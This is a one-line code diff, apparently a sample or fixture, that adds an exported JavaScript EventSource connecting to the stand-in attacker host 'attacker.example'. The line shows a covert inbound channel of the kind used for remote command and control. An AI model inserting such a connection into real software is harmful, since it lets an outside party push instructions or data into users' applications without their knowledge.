@@ -1,0 +1,1 @@
+export const es = new EventSource('https://attacker.example/stream')
